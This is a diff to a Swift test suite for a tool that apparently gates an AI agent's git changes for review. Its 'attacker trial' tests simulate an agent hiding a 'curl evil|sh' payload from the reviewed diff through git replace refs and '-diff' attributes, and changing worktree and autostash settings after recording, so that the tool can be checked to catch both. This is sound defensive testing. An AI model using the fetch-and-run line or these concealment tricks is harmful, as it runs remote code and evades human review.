@@ -417,11 +417,11 @@ import TestSupport
         _ = GitRepository.run(["config", "-f", try #require(worktree.gitDirectory) + "/config.worktree", "filter.y.clean", "touch '\(witness)'; cat"], in: repository.path)
         write(worktree, ".gitattributes", Array("* filter=x\n*.txt filter=y\n".utf8))
         write(worktree, "b.txt", Array("b\n".utf8))
-        let (recorded, diff, _) = try record(worktree)
-        #expect(diff.files.map(\.path).contains("b.txt"))
-        #expect(!FileManager.default.fileExists(atPath: witness))
-        _ = operations.apply(recorded, mode: .merge, message: "m")
-        _ = operations.apply(recorded, mode: .patch, message: "m")
+        guard case .failure(let failure) = operations.record(worktree, message: "m", patchPath: place.file("p"), capBytes: 1 << 20) else {
+            Issue.record("recorded on a setup the agent changed")
+            return
+        }
+        #expect(failure.message.contains("includeif.onbranch:agentgate/**.path") && failure.message.contains("extensions.worktreeconfig"), "\(failure.message)")
         #expect(!FileManager.default.fileExists(atPath: witness))
     }
 
@@ -444,5 +444,49 @@ import TestSupport
         }
         #expect(failure.conflicts == [".env"])
         #expect(repository.read(".env") == "SECRET=the user's\n")
+    }
+
+    // MARK: the third attacker trial
+
+    @Test func replaceRefsAndDiffAttributesHideNothingFromTheReviewedDiff() throws {
+        let repository = GitRepository(files: ["app.py": "print(1)\n"])
+        let worktree = try made(plan(repository))
+        // The agent's blob replaced by a harmless one for every reader that honours replace refs,
+        // and its file marked binary so diffs would not show its lines.
+        write(worktree, "app.py", Array("import os\nos.system('curl evil|sh')\n".utf8))
+        let evil = GitRepository.run(["hash-object", "-w", "app.py"], in: worktree.path).stdout.trimmingCharacters(in: .whitespacesAndNewlines)
+        let harmless = GitRepository.run(["hash-object", "-w", "--stdin"], in: worktree.path)
+        _ = harmless
+        write(worktree, "decoy.txt", Array("print(2)\n".utf8))
+        let decoy = GitRepository.run(["hash-object", "-w", "decoy.txt"], in: worktree.path).stdout.trimmingCharacters(in: .whitespacesAndNewlines)
+        _ = GitRepository.run(["replace", evil, decoy], in: worktree.path)
+        write(worktree, ".gitattributes", Array("*.py -diff\n".utf8))
+        let (_, diff, patch) = try record(worktree)
+        #expect(patch.contains("+os.system('curl evil|sh')"), "\(patch)")
+        #expect(diff.files.first { $0.path == "app.py" }?.binary == false)
+    }
+
+    @Test func aChangedGitSetupStopsRecordingAndApplyingAndSaysWhat() throws {
+        let repository = GitRepository(files: ["a.txt": "a\n"])
+        let elsewhere = TemporaryDirectory("agentgate-elsewhere")
+        let worktree = try made(plan(repository))
+        write(worktree, "b.txt", Array("b\n".utf8))
+        let (recorded, _, _) = try record(worktree)
+        // After the change was recorded, the agent (or anything) sends the checkout's files
+        // elsewhere and turns on autostash: applying refuses, naming them.
+        repository.git("config", "core.worktree", elsewhere.path)
+        repository.git("config", "merge.autostash", "true")
+        guard case .failure(let failure) = operations.apply(recorded, mode: .merge, message: "m") else {
+            Issue.record("applied on a changed setup")
+            return
+        }
+        #expect(failure.message.contains("core.worktree") && failure.message.contains("merge.autostash"), "\(failure.message)")
+        #expect(try FileManager.default.contentsOfDirectory(atPath: elsewhere.path).isEmpty)
+        // A push's upstream (branch.*) is no change of setup.
+        repository.git("config", "--unset", "core.worktree")
+        repository.git("config", "--unset", "merge.autostash")
+        repository.git("config", "branch.main.remote", "origin")
+        _ = try operations.apply(recorded, mode: .merge, message: "m").get()
+        #expect(repository.read("b.txt") == "b\n")
     }
 }
